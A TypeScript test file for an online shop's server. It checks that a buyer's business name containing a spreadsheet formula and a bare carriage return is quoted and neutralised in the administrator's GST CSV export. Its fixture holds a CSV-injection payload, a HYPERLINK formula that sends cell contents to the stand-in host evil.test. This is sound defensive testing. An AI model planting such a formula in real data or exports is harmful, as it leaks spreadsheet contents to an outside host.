import { afterAll, beforeAll, expect, it } from "vitest";
import { gstinCheckCharacter } from "#server/tax/gstin.ts";
import { makeProduct } from "#server/testing/factories.ts";
import { describeEachDatabase } from "#server/testing/test-databases.ts";
import { cookiesFrom, FORM, form, shopBrowser, startTestShop, type TestShop } from "./test-shop.ts";

const MUMBAI_GSTIN = `27AAACR5055K1Z${gstinCheckCharacter("27AAACR5055K1Z")}`;
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open invoice")';

describeEachDatabase(
  "CSV files the administrator downloads, from the side of a buyer who typed a formula",
  (database) => {
    let shop: TestShop;
    let admin = "";

    beforeAll(async () => {
      shop = await startTestShop(database());
      const product = await makeProduct(shop.services.db, { price: 329_900, hsn: "6204", sizes: { M: 5 } });
      const buyer = shopBrowser(shop);
      await buyer.post("/cart", { intent: "add", productId: String(product), size: "M" });
      const placed = await buyer.post("/guest", {
        name: "Mallory Rao",
        address: "Flat 7, Palm Court, Linking Road, Bandra West",
        city: "Mumbai",
        stateCode: "27",
        pincode: "400050",
        phone: "9820012345",
        email: "mallory@mail.in",
        idempotencyKey: crypto.randomUUID(),
        gstin: MUMBAI_GSTIN,
        // A business name with a formula, and a bare carriage return.
        businessName: `${FORMULA}\rSen Gifts`,
      });
      expect(placed.statusCode).toBe(302);
      const login = await shop.request({
        method: "POST",
        url: "/login",
        headers: FORM,
        payload: form({ email: "admin@shop.test", password: "Admin-password-1" }),
      });
      admin = cookiesFrom(login);
    });
    afterAll(() => shop?.dispose());

    it("writes the buyer's business name in /admin/gst.csv as text, quoted, never as a live formula", async () => {
      const month = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 7);
      const csv = await shop.request({
        method: "GET",
        url: `/admin/gst.csv?month=${month}`,
        headers: { cookie: admin },
      });
      expect(csv.statusCode).toBe(200);
      const quoted = `"'${FORMULA.replaceAll('"', '""')}\rSen Gifts"`;
      expect(csv.body).toContain(`,${quoted},`);
      // No cell of the file begins with the formula: every = of it sits behind the quote.
      expect(csv.body).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/);
      // The business name's carriage return is inside its quoted cell; none stands bare elsewhere.
      expect(csv.body.replace(quoted, "")).not.toMatch(/\r(?!\n)/);
      expect(csv.body.startsWith("\uFEFFGSTR-1 for")).toBe(true);
    });
  },
);
